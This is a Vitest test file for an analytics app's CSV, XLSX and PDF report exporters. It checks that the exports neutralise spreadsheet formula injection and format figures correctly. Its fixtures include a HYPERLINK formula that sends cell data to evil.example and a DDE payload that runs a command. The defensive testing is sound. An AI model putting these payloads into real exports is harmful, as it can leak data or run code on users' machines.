import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ConversionsView } from "../services/analytics/reports/conversions";
import type { DropOffsView } from "../services/analytics/reports/dropoffs";
import type { OverviewView } from "../services/analytics/reports/overview";
import type { RevenueView } from "../services/analytics/reports/revenue";
import {
  csvSections,
  csvText,
  FORMULA_START,
  parseCsv,
  pdfText,
  readXlsx,
  startsFormula,
} from "../testing/exports";
import { buildDocument, type Column, type ExportDocument, type ReportView } from "./document";
import { renderCsv } from "./render-csv";
import { renderPdf } from "./render-pdf";
import { renderXlsx } from "./render-xlsx";

/**
 * The three renderers on documents built from report views whose every text is one a visitor (or
 * the funnel's owner) could have chosen, each starting with a character a spreadsheet runs as a
 * formula; the figures include negative numbers and fractions.
 */

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  "=_x000D_1 (an OOXML escape, as text)",
  // A formula after a line break inside the text, too.
  "=1\n=1+4",
  "@A1\r\n@SUM(A1:A9)",
  "-1\r-2+3",
];
let n = 0;
/** The next hostile text, made unique so each cell can be found. */
const evil = () => {
  const base = HOSTILE[n % HOSTILE.length] ?? "=1";
  n++;
  return `${base} #${n}`;
};

/** January 2026 in Berlin (UTC+1): the period, buckets and times are shown as Berlin's dates. */
const ZONE = "Europe/Berlin";
const period = { start: "2025-12-31T23:00:00.000Z", end: "2026-01-31T23:00:00.000Z", time_zone: ZONE };

function overview(): OverviewView {
  return {
    funnel_id: evil(),
    funnel_name: evil(),
    period,
    visitors: { total: 1234, unique: 1000, new: 800, returning: 200 },
    conversions: { total: 57, rate: 0.057, value_cents: 123_456 },
    revenue: { total_cents: 123_456, per_visitor_cents: 123.456, per_conversion_cents: 2165.89 },
    steps: [1, 2, 3].map((i) => ({
      step_id: evil(),
      step_name: evil(),
      step_type: evil(),
      visitors: 1000 / i,
      entries: 1100 - i,
      exits: 300 * i,
      drop_offs: 100 * i,
      drop_off_rate: 1 / (i + 2),
      avg_time_seconds: 42 * i,
      conversion_rate: 0.1 / i,
    })),
  };
}

function conversions(): ConversionsView {
  return {
    funnel_id: evil(),
    period,
    granularity: "day",
    summary: {
      total_conversions: 57,
      conversion_rate: 1 / 3,
      total_value_cents: 99_900,
      avg_value_cents: 1752.63,
    },
    by_type: [{ conversion_type: "purchase", count: 57, rate: 0.057, value_cents: 99_900 }],
    by_step: [{ step_id: evil(), step_name: evil(), conversions: 57, conversion_rate: 0.2 }],
    over_time: [
      { timestamp: "2025-12-31T23:00:00.000Z", conversions: 20, rate: 0.1, value_cents: 4_000 },
      { timestamp: "2026-01-01T23:00:00.000Z", conversions: 37, rate: 0.3, value_cents: 95_900 },
    ],
    converting_visitors: [1, 2].map((i) => ({
      visitor_id: evil(),
      session_id: evil(),
      conversions: i,
      total_value_cents: 4_900 * i,
      first_conversion_at: "2026-01-01T10:00:00.000Z",
      last_conversion_at: "2026-01-02T23:30:05.000Z",
    })),
    pagination: { page: 1, page_size: 2, total: 2 },
  } as ConversionsView;
}

function dropOffs(): DropOffsView {
  const stepName = evil();
  return {
    funnel_id: evil(),
    period,
    overall_drop_off_rate: 0.875,
    steps_with_drop_off: [
      {
        step_id: evil(),
        step_name: stepName,
        drop_offs: 70,
        drop_off_rate: 0.7,
        severity: "high",
        common_exit_reasons: [
          { reason: evil(), count: 40, percentage: 4 / 7 },
          { reason: evil(), count: 30, percentage: 3 / 7 },
        ],
        suggestions: [evil(), evil()],
      },
    ],
    drop_off_funnel: [
      { step_id: evil(), step_name: stepName, visitors: 100, drop_offs: 70, cumulative_drop_off_rate: 0.7 },
    ],
  };
}

function revenue(): RevenueView {
  return {
    funnel_id: evil(),
    period,
    granularity: "week",
    summary: {
      total_revenue_cents: 1_000,
      revenue_per_visitor_cents: 3.3333,
      revenue_per_conversion_cents: 500,
      refund_rate: 0.25,
      // Refunds larger than revenue: a negative figure that must stay a number.
      net_revenue_cents: -1_500,
    },
    by_source: [
      { source: evil(), revenue_cents: 600, percentage: 0.6 },
      { source: evil(), revenue_cents: 400, percentage: 0.4 },
    ],
    by_step: [
      { step_id: evil(), step_name: evil(), revenue_cents: 1_000, orders: 2, avg_order_value_cents: 500 },
    ],
    over_time: [
      { timestamp: "2026-01-04T23:00:00.000Z", revenue_cents: -1_500, orders: 2, avg_order_value_cents: 500 },
    ],
    top_products: [
      { product_id: evil(), product_name: evil(), revenue_cents: 700, units_sold: 3 },
      { product_id: evil(), product_name: evil(), revenue_cents: 300, units_sold: 1 },
    ],
  };
}

const reports: ReportView[] = [
  { reportType: "overview", view: overview() },
  { reportType: "conversions", view: conversions() },
  { reportType: "dropoffs", view: dropOffs() },
  { reportType: "revenue", view: revenue() },
];
const docs: ExportDocument[] = reports.map((report) =>
  buildDocument({ report, funnelName: evil(), generatedAt: new Date("2026-02-01T12:00:00Z") }),
);

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "funnel-render-"));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

async function rendered(
  render: (doc: ExportDocument, file: string) => Promise<void>,
  doc: ExportDocument,
  ext: string,
): Promise<Buffer> {
  const file = join(dir, `${doc.reportType}-${Math.random().toString(36).slice(2)}.${ext}`);
  await render(doc, file);
  return readFile(file);
}

it("the fixtures start every text with a formula character", () => {
  const texts = docs
    .flatMap((d) => d.tables.flatMap((t) => t.rows.flat()))
    .filter((c) => typeof c === "string");
  const hostile = texts.filter((t) => FORMULA_START.test(t));
  // Everything but timestamps and enum values the report fixes (severity, conversion type).
  expect(hostile.length).toBeGreaterThan(30);
  for (const start of ["=", "+", "-", "@", "\t", "\r"])
    expect(hostile.some((t) => t.startsWith(start))).toBe(true);
});

/** How the renderers must show each kind of value, spelt out here with Intl rather than their code. */
const wall = (iso: string, withTime: boolean) =>
  new Intl.DateTimeFormat("sv-SE", {
    timeZone: ZONE,
    year: "numeric",
    month: "2-digit",
    day: "2-digit",
    ...(withTime ? { hour: "2-digit", minute: "2-digit", second: "2-digit", hourCycle: "h23" } : {}),
  }).format(new Date(iso));
const dollars = (cents: number) =>
  `${cents < 0 ? "-" : ""}$${Math.abs(cents / 100).toLocaleString("en-US", {
    minimumFractionDigits: 2,
    maximumFractionDigits: 2,
  })}`;
const percent = (rate: number) => `${(rate * 100).toFixed(2)}%`;
const PERIOD_TEXT = "1–31 Jan 2026";
const kindAt = (column: Column | undefined, row: number) => column?.kinds?.[row] ?? column?.kind ?? "text";
const stepIds = (doc: ExportDocument) =>
  doc.tables.flatMap((t) => {
    const i = t.columns.findIndex((c) => c.header === "Step ID");
    return i < 0 ? [] : t.rows.map((r) => String(r[i]));
  });

it("the documents label their columns for people and keep step ids for programs only", () => {
  for (const doc of docs) {
    for (const table of doc.tables) {
      for (const column of table.columns) {
        // No field names: "Drop-off rate", not drop_off_rate.
        expect(column.header, table.title).not.toMatch(/_|^[a-z]/);
        if (/ID$/.test(column.header) && column.header !== "Visitor ID" && column.header !== "Session ID")
          expect(column.csvOnly || column.header === "Product ID", column.header).toBe(true);
      }
    }
  }
  expect(docs.flatMap(stepIds).length).toBeGreaterThan(5);
});

describe.each(docs.map((d) => [d.reportType, d] as const))("CSV of %s", (_name, doc) => {
  it("has the header block, then one section per table, labelled, in dollars, percentages and local dates", async () => {
    const text = (await rendered(renderCsv, doc, "csv")).toString("utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const { meta, tables } = csvSections(text);
    expect(meta.get("title")).toBe(doc.title);
    expect(meta.get("Funnel")).toBe(csvText(doc.funnelName));
    expect(meta.get("Period")).toBe(PERIOD_TEXT);
    expect(meta.get("Time zone")).toBe(ZONE);
    expect(meta.get("Currency")).toBe("USD");
    expect(meta.get("Generated")).toBe(wall(doc.generatedAt, true));
    expect(tables.map((t) => t.title)).toEqual(doc.tables.map((t) => t.title));
    for (const [i, table] of doc.tables.entries()) {
      const csv = tables[i];
      const unit = (kind: string) => (kind === "rate" ? " (%)" : kind === "money" ? " (USD)" : "");
      expect(csv?.header).toEqual(
        table.columns.map((c) => (c.kinds ? c.header : `${c.header}${unit(c.kind)}`)),
      );
      expect(csv?.rows).toHaveLength(table.rows.length);
      const mixed = table.columns.find((c) => c.kinds);
      table.rows.forEach((row, r) => {
        row.forEach((cell, c) => {
          const got = csv?.rows[r]?.[c];
          const kind = kindAt(table.columns[c], r);
          const where = `${table.title} row ${r} column ${table.columns[c]?.header}`;
          if (typeof cell === "number") {
            // A number, negative ones included, is written as the number: no apostrophe.
            expect(got, where).toMatch(/^-?\d+(\.\d+)?(e[+-]\d+)?$/);
            const want = kind === "rate" ? cell * 100 : kind === "money" ? cell / 100 : cell;
            expect(Number(got), where).toBeCloseTo(want, 9);
          } else if (typeof cell === "string" && (kind === "date" || kind === "datetime")) {
            expect(got, where).toBe(wall(cell, kind === "datetime"));
          } else if (typeof cell === "string") {
            const label = c === 0 && mixed ? `${cell}${unit(kindAt(mixed, r))}` : cell;
            expect(got, where).toBe(csvText(label));
          } else {
            expect(got, where).toBe(cell ?? "");
          }
        });
      });
    }
  });

  it("leaves no cell that a spreadsheet would run as a formula", async () => {
    const records = parseCsv((await rendered(renderCsv, doc, "csv")).toString("utf8"));
    const cells = records.flat();
    const formulas = cells.filter((c) => startsFormula(c) && !/^-?\d+(\.\d+)?(e[+-]\d+)?$/.test(c));
    expect(formulas).toEqual([]);
  });
});

describe.each(docs.map((d) => [d.reportType, d] as const))("XLSX of %s", (_name, doc) => {
  it("has a Report sheet and a sheet per table: labelled, formatted number and date cells, no formulas", async () => {
    const sheets = await readXlsx(await rendered(renderXlsx, doc, "xlsx"));
    expect(sheets.map((s) => s.name)).toEqual(["Report", ...doc.tables.map((t) => t.title)]);
    const report = sheets[0];
    expect(report?.rows[0]).toEqual([doc.title]);
    expect(report?.rows).toContainEqual(["Funnel", doc.funnelName]);
    expect(report?.rows).toContainEqual(["Period", PERIOD_TEXT]);
    expect(report?.rows).toContainEqual(["Currency", "USD"]);
    const generated = report?.rows.findIndex((r) => r[0] === "Generated") ?? -1;
    const generatedAt = report?.rows[generated]?.[1];
    expect(generatedAt).toBeInstanceOf(Date);
    expect((generatedAt as Date).toISOString().slice(0, 19).replace("T", " ")).toBe(
      wall(doc.generatedAt, true),
    );
    expect(report?.formats[generated]?.[1]).toMatch(/d.*m.*y.*h/);
    for (const [i, table] of doc.tables.entries()) {
      const sheet = sheets[i + 1];
      const shown = table.columns.flatMap((c, index) => (c.csvOnly ? [] : [{ c, index }]));
      expect(sheet?.rows[0], table.title).toEqual(shown.map(({ c }) => c.header));
      expect(sheet?.rows.slice(1), table.title).toHaveLength(table.rows.length);
      table.rows.forEach((row, r) => {
        shown.forEach(({ c, index }, x) => {
          const cell = row[index] ?? null;
          const got = sheet?.rows[r + 1]?.[x];
          const format = sheet?.formats[r + 1]?.[x];
          const kind = kindAt(c, r);
          const where = `${table.title} row ${r} ${c.header}`;
          if (kind === "money" && typeof cell === "number") {
            // The amount in dollars, shown with the dollar sign and cents: a number, not a text.
            expect(got, where).toBeCloseTo(cell / 100, 9);
            expect(format, where).toMatch(/\$.*#,##0\.00/);
          } else if (kind === "rate" && typeof cell === "number") {
            expect(got, where).toBe(cell);
            expect(format, where).toBe("0.00%");
          } else if (kind === "integer" && typeof cell === "number") {
            expect(got, where).toBe(cell);
            expect(format, where).toBe("#,##0");
          } else if ((kind === "date" || kind === "datetime") && typeof cell === "string") {
            // A date cell holding the wall time in the report's time zone.
            expect(got, where).toBeInstanceOf(Date);
            const shownAs = (got as Date).toISOString().slice(0, 19).replace("T", " ");
            expect(shownAs.slice(0, kind === "date" ? 10 : 19), where).toBe(wall(cell, kind === "datetime"));
            expect(format, where).toMatch(/d.*m.*y/);
          } else {
            // The text exactly as the report has it (no apostrophe: a string cell is never run).
            expect(got, where).toBe(cell);
          }
        });
      });
    }
    for (const sheet of sheets) expect(sheet.formulas, sheet.name).toEqual([]);
    // Step ids are for programs: the CSV has them, the workbook does not.
    const texts = new Set(sheets.flatMap((s) => s.rows.flat()).filter((v) => typeof v === "string"));
    for (const id of stepIds(doc)) expect(texts.has(id), id).toBe(false);
  });
});

describe.each(docs.map((d) => [d.reportType, d] as const))("PDF of %s", (_name, doc) => {
  it("shows the title, the period with its last day, and every figure as people read it", async () => {
    const text = await pdfText(await rendered(renderPdf, doc, "pdf"));
    const lines = text.split("\n");
    expect(text).toContain(doc.title);
    expect(text).toContain(`Period: ${PERIOD_TEXT} (${ZONE})`);
    for (const table of doc.tables) {
      expect(text).toContain(table.title);
      for (const [r, row] of table.rows.entries()) {
        // The figures of a row, on one line, in column order, as the PDF shows them.
        const figures = row.flatMap((cell, c) => {
          if (typeof cell !== "number") return [];
          const kind = kindAt(table.columns[c], r);
          if (kind === "rate") return [percent(cell)];
          if (kind === "money") return [dollars(cell)];
          return [cell.toLocaleString("en-US", { maximumFractionDigits: 2 })];
        });
        const pattern = new RegExp(figures.map((f) => f.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")).join(".*"));
        expect(
          lines.some((l) => pattern.test(l)),
          `${table.title}: ${figures.join(" ")}`,
        ).toBe(true);
      }
    }
    // Rates are announced as percentages and shown as such: no bare fraction anywhere.
    expect(text).not.toMatch(/(^|\s)-?0\.\d+(\s|$)/m);
    expect(text).not.toMatch(/cents|T\d\d:\d\d:\d\d/);
  });
});
